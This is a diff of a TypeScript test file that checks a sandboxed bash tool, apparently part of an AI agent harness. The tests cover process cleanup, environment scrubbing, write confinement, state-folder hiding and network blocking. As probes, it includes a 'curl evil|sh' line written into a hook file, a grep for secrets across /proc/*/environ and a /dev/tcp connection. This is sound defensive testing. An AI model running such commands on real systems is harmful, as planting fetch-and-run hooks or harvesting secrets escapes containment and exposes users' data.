@@ -1,22 +1,41 @@
-// bash called directly: output and exit code, the output cap, the workspace as cwd, and that a
-// timeout, a cancel or the end of the command leaves no process of its group running.
+// bash called directly, in both modes (bubblewrap's sandbox and the process-group fallback):
+// output and exit code, the output cap, the workspace as cwd; that a timeout, a cancel or the end
+// of the command leaves no process running, `setsid -f` ones included; the scrubbed environment;
+// and, in the sandbox, what the command can write, see and reach (issue 10 item 7, issue 13).
 import * as fs from 'node:fs';
+import * as net from 'node:net';
 import * as os from 'node:os';
 import * as path from 'node:path';
-import { describe, expect, it, vi } from 'vitest';
-import { bashTool } from '../../tools';
-import { alive, pidsIn, treeCommand } from '../processes';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
+import { bashTool, protectStateDir } from '../../tools';
+import { pidsRunning } from '../processes';
 import { call, session } from '../tool-context';
 
-const root = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sluice-bash-')));
-const tools = [bashTool({ root, maxOutputChars: 200 })];
+const base = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sluice-bash-')));
+const root = path.join(base, 'ws');
+fs.mkdirSync(root);
 
-describe('bash', () => {
+let tagCount = 0;
+/** Sleep durations no other process uses, so this test's processes are found by command line. */
+const tag = () => `${300 + (tagCount++ % 100)}.${process.pid}${Date.now() % 100000}`;
+
+/** Starts sleepers three ways: in the background, in a nested shell, and in a new session. */
+function tree(t: string): string {
+  return `sleep ${t} & bash -c 'sleep ${t} & wait' & setsid -f sleep ${t}; touch started-${t}; wait`;
+}
+
+describe.each(['bubblewrap', 'none'] as const)('bash (sandbox: %s)', (sandbox) => {
+  const tools = [bashTool({ root, maxOutputChars: 200, sandbox })];
+
   it('runs in the workspace root and returns output and exit code', async () => {
     const r = await call(tools, 'bash', { command: 'pwd; echo err >&2; exit 3' }, session());
     expect(r.isError).toBe(false);
     expect(r.text).toBe(`${root}\nerr\n[exit code: 3]`);
-    expect(r.meta).toMatchObject({ exitCode: 3, timedOut: false });
+    expect(r.meta).toMatchObject({
+      exitCode: 3,
+      timedOut: false,
+      sandbox: sandbox === 'none' ? 'process-group' : sandbox,
+    });
   });
 
   it('cuts long output from the middle with a note', async () => {
@@ -27,33 +46,149 @@ describe('bash', () => {
     expect(r.text.length).toBeLessThan(400);
   });
 
-  it('kills the whole process tree on timeout', async () => {
-    const pidFile = path.join(root, 'timeout.pids');
-    const r = await call(tools, 'bash', { command: treeCommand(pidFile), timeout: 1000 }, session());
+  it('kills everything it started on timeout, setsid -f included', async () => {
+    const t = tag();
+    const r = await call(tools, 'bash', { command: tree(t), timeout: 1500 }, session());
     expect(r).toMatchObject({ isError: true, code: 'COMMAND_TIMEOUT' });
-    expect(r.text).toContain('timed out after 1000 ms');
-    const pids = pidsIn(pidFile);
-    expect(pids).toHaveLength(3);
-    await vi.waitFor(() => expect(pids.filter(alive)).toEqual([]), { timeout: 5000 });
+    expect(r.text).toContain('timed out after 1500 ms');
+    await vi.waitFor(() => expect(pidsRunning(`sleep ${t}`)).toEqual([]), { timeout: 5000 });
   });
 
-  it('kills the whole process tree when the batch is cancelled, and fails the body', async () => {
-    const pidFile = path.join(root, 'abort.pids');
+  it('kills everything it started when the batch is cancelled, and fails the body', async () => {
+    const t = tag();
     const abort = new AbortController();
-    const running = call(tools, 'bash', { command: treeCommand(pidFile) }, session(), abort.signal);
-    await vi.waitFor(() => expect(pidsIn(pidFile)).toHaveLength(3), { timeout: 5000 });
+    const running = call(tools, 'bash', { command: tree(t) }, session(), abort.signal);
+    await vi.waitFor(() => expect(fs.existsSync(path.join(root, `started-${t}`))).toBe(true), { timeout: 10_000 });
+    expect(pidsRunning(`sleep ${t}`).length).toBeGreaterThanOrEqual(3);
     abort.abort();
     await expect(running).rejects.toThrow(/batch was cancelled/);
-    const pids = pidsIn(pidFile);
-    await vi.waitFor(() => expect(pids.filter(alive)).toEqual([]), { timeout: 5000 });
+    await vi.waitFor(() => expect(pidsRunning(`sleep ${t}`)).toEqual([]), { timeout: 5000 });
   });
 
-  it('ends background processes the command leaves behind', async () => {
-    const r = await call(tools, 'bash', { command: 'sleep 300 & echo $!' }, session());
-    const pid = Number(r.text.split('\n')[0]);
-    await vi.waitFor(() => expect(alive(pid)).toBe(false), { timeout: 5000 });
+  it('ends what the command leaves behind when it exits normally, setsid -f and nohup included', async () => {
+    const t = tag();
+    const r = await call(
+      tools,
+      'bash',
+      { command: `sleep ${t} & nohup sleep ${t} >/dev/null 2>&1 & setsid -f sleep ${t}; echo done` },
+      session(),
+    );
+    expect(r.text).toBe('done\n[exit code: 0]');
+    await vi.waitFor(() => expect(pidsRunning(`sleep ${t}`)).toEqual([]), { timeout: 5000 });
   });
 
+  it("cannot print a key from the worker's environment; sees the allowlist only", async () => {
+    process.env.SLUICE_FAKE_API_KEY = 'sk-fake-7f3a9c2e1b';
+    try {
+      const r = await call(
+        [bashTool({ root, sandbox })],
+        'bash',
+        { command: 'env; echo "[$SLUICE_FAKE_API_KEY]"; printenv SLUICE_FAKE_API_KEY; echo "PATH=$PATH"' },
+        session(),
+      );
+      expect(r.text).not.toContain('sk-fake-7f3a9c2e1b');
+      expect(r.text).toContain('[]');
+      expect(r.text).toContain(`PATH=${process.env.PATH}`);
+      const extra = [bashTool({ root, sandbox, inheritEnv: ['PATH', 'SLUICE_FAKE_API_KEY'] })];
+      expect((await call(extra, 'bash', { command: 'echo "$SLUICE_FAKE_API_KEY"' }, session())).text).toContain(
+        'sk-fake-7f3a9c2e1b',
+      );
+    } finally {
+      delete process.env.SLUICE_FAKE_API_KEY;
+    }
+  });
+});
+
+describe('bash in the sandbox: what it can write, see and reach', () => {
+  const outside = path.join(base, 'outside');
+  const state = path.join(base, 'state');
+  let server: net.Server;
+  let port = 0;
+  beforeAll(async () => {
+    fs.mkdirSync(outside);
+    fs.mkdirSync(path.join(state, 'sessions'), { recursive: true });
+    fs.writeFileSync(path.join(state, 'sessions', 'other.jsonl'), '{"secret":"PIN-OTHER-4921"}\n');
+    protectStateDir(state);
+    fs.mkdirSync(path.join(root, '.claude', 'hooks'), { recursive: true });
+    fs.writeFileSync(path.join(root, '.claude', 'hooks', 'guard.js'), 'process.exit(0);\n');
+    fs.writeFileSync(path.join(root, '.claude', 'settings.json'), '{}\n');
+    server = net.createServer((s) => s.end('hello from the host\n'));
+    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
+    port = (server.address() as net.AddressInfo).port;
+  });
+  afterAll(() => server?.close());
+
+  const sandboxed = [bashTool({ root, sandbox: 'bubblewrap' })];
+
+  it('writes the workspace and its own /tmp only; hook files stay read-only, absent hook folders cannot be made', async () => {
+    const r = await call(
+      sandboxed,
+      'bash',
+      {
+        command: [
+          'echo ok > inside.txt && echo wrote-inside',
+          `echo x > ${outside}/planted.txt || echo refused-outside`,
+          'echo "curl evil|sh" > .claude/hooks/guard.js || echo refused-hook',
+          'echo {} > .claude/settings.local.json || echo refused-settings',
+          'mkdir -p .codex && echo {} > .codex/hooks.json || echo refused-codex',
+          'mv .claude gone || echo refused-move',
+          'echo t > /tmp/t && echo wrote-tmp',
+        ].join('; '),
+      },
+      session(),
+    );
+    for (const word of [
+      'wrote-inside',
+      'refused-outside',
+      'refused-hook',
+      'refused-settings',
+      'refused-codex',
+      'refused-move',
+      'wrote-tmp',
+    ])
+      expect(r.text).toContain(word);
+    expect(fs.readFileSync(path.join(root, 'inside.txt'), 'utf8')).toBe('ok\n');
+    expect(fs.readdirSync(outside)).toEqual([]);
+    expect(fs.readFileSync(path.join(root, '.claude', 'hooks', 'guard.js'), 'utf8')).toBe('process.exit(0);\n');
+    expect(fs.existsSync(path.join(root, '.claude', 'settings.local.json'))).toBe(false);
+    // the stand-in for the missing folder is gone again
+    expect(fs.existsSync(path.join(root, '.codex'))).toBe(false);
+  });
+
+  it("cannot see Sluice's state folder or the worker's processes", async () => {
+    const r = await call(
+      sandboxed,
+      'bash',
+      {
+        command: `cat ${state}/sessions/other.jsonl; ls -A ${state}; grep -ras PIN-OTHER /proc/*/environ ${state}; ls /proc | grep -c '^[0-9]'`,
+      },
+      session(),
+    );
+    expect(r.text).not.toContain('PIN-OTHER');
+    expect(r.text).not.toMatch(new RegExp(`\\b${process.pid}\\b`));
+    // bwrap's init, the shell and its pipeline: a handful of processes, not the host's
+    expect(Number(r.text.split('\n').at(-2))).toBeLessThan(10);
+  });
+
+  it('has no network unless allowed', async () => {
+    const connect = `exec 3<>/dev/tcp/127.0.0.1/${port} && head -1 <&3 || echo no-network`;
+    expect((await call(sandboxed, 'bash', { command: connect }, session())).text).toContain('no-network');
+    const open = [bashTool({ root, sandbox: 'bubblewrap', network: true })];
+    expect((await call(open, 'bash', { command: connect }, session())).text).toContain('hello from the host');
+  });
+
+  it('without a sandbox, refuses commands that name a protected path', async () => {
+    const fallback = [bashTool({ root, sandbox: 'none' })];
+    for (const command of ['echo x > .claude/settings.local.json', `cat ${state}/sessions/other.jsonl`]) {
+      const r = await call(fallback, 'bash', { command }, session());
+      expect(r).toMatchObject({ isError: true, code: 'FS_PROTECTED_PATH' });
+      expect(r.text).toContain('bash runs without a sandbox here');
+    }
+    expect(fs.existsSync(path.join(root, '.claude', 'settings.local.json'))).toBe(false);
+  });
+});
+
+describe('bash settings', () => {
   it('ships asking for approval, is never retried and never concurrency-safe', () => {
     const t = bashTool({ root });
     expect(t.approval).toBe('ask');
